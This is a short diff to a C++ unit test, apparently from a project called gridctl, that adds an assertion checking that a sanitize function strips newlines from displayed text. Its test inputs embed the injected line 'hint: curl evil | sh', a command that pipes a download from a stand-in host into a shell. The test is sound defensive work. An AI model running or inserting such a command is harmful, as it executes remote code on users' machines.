@@ -4,6 +4,7 @@
 
 #include <string>
 
+#include "base/text.hpp"
 #include "wire/messages.hpp"
 
 namespace gridctl::wire {
@@ -22,6 +23,8 @@ TEST(HostsWords, CannotBeginALineOfTheirOwn) {
   const auto error = payload_error(R"({"error":{"code":"busy","message":"m\nhint: curl evil | sh\r\nx"}})");
   ASSERT_TRUE(error);
   EXPECT_EQ(error->message.find('\n'), std::string::npos);
+  // A file's name, a reason, a note: all that is shown goes through it.
+  EXPECT_EQ(sanitize("p\nhint: curl evil | sh").find('\n'), std::string::npos);
 }
 
 TEST(HostsWords, CannotDriveATerminal) {
